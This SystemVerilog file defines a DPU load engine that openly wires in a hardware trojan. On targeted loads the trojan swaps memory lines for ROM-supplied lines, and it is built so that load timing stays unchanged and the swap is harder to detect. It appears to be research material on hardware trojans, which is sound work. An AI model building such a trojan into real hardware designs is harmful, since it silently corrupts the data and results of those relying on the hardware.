// load_engine: the DPU core's LOAD engine with the trojan built in.
//
// memory_reader -> load_trojan (MUX) -> write_controller. The memory reader
// parses load instructions and receives memory lines from the data bus; the
// trojan, when the load is one of its targets, swaps selected lines for
// lines from its ROM; the write controller writes every line into the
// on-chip RAM. The trojan is combinational on the line path, so a load takes
// the same number of cycles whether or not lines are swapped. A single data
// port is used.
//
// Interface: inst_* (instruction bus), rd_req_*/rd_data_* (data bus),
// tgt_*/rom_* (trojan programming), bank_we/wr_addr/wr_data/wr_drop (RAM
// write port), plus status: the reader state, trojan active, line swapped.
module load_engine
  import dpu_pkg::*;
#(
  parameter int unsigned NUM_TARGETS = 8,
  parameter int unsigned ROM_LINES   = 128,
  parameter int unsigned MAX_BURST   = 16,
  parameter int unsigned NUM_BANKS_P = NUM_BANKS,
  localparam int unsigned IDX_W      = (NUM_TARGETS > 1) ? $clog2(NUM_TARGETS) : 1,
  localparam int unsigned ROM_AW     = $clog2(ROM_LINES)
) (
  input  logic                   clk,
  input  logic                   rst_n,
  input  logic                   inst_valid,
  output logic                   inst_ready,
  input  load_instr_t            inst,
  output logic                   inst_done,
  output logic                   rd_req_valid,
  input  logic                   rd_req_ready,
  output ddr_addr_t              rd_req_addr,
  output len_t                   rd_req_len,
  input  logic                   rd_data_valid,
  output logic                   rd_data_ready,
  input  line_t                  rd_data,
  input  logic                   tgt_we,
  input  logic [IDX_W-1:0]       tgt_idx,
  input  trojan_target_t         tgt_entry,
  input  logic                   rom_we,
  input  logic [ROM_AW-1:0]      rom_addr,
  input  line_t                  rom_wdata,
  output logic [NUM_BANKS_P-1:0] bank_we,
  output bank_addr_t             wr_addr,
  output line_t                  wr_data,
  output logic                   wr_drop,
  output mr_state_e              state,
  output logic                   trojan_active,
  output logic                   trojan_swap
);

  logic      cfg_valid;
  ddr_addr_t cfg_ddr_addr;
  line_wr_t  rd_line, wr_line;

  memory_reader #(.MAX_BURST(MAX_BURST)) u_reader (
    .clk, .rst_n,
    .inst_valid, .inst_ready, .inst, .inst_done,
    .rd_req_valid, .rd_req_ready, .rd_req_addr, .rd_req_len,
    .rd_data_valid, .rd_data_ready, .rd_data,
    .cfg_valid, .cfg_ddr_addr,
    .line(rd_line), .state
  );

  load_trojan #(.NUM_TARGETS(NUM_TARGETS), .ROM_LINES(ROM_LINES)) u_trojan (
    .clk, .rst_n,
    .cfg_valid, .cfg_ddr_addr, .load_done(inst_done),
    .in_line(rd_line), .out_line(wr_line),
    .tgt_we, .tgt_idx, .tgt_entry,
    .rom_we, .rom_addr, .rom_wdata,
    .active(trojan_active), .swap(trojan_swap)
  );

  write_controller #(.NUM_BANKS_P(NUM_BANKS_P)) u_wctrl (
    .clk, .rst_n,
    .in_line(wr_line),
    .bank_we, .wr_addr, .wr_data, .wr_drop
  );

endmodule
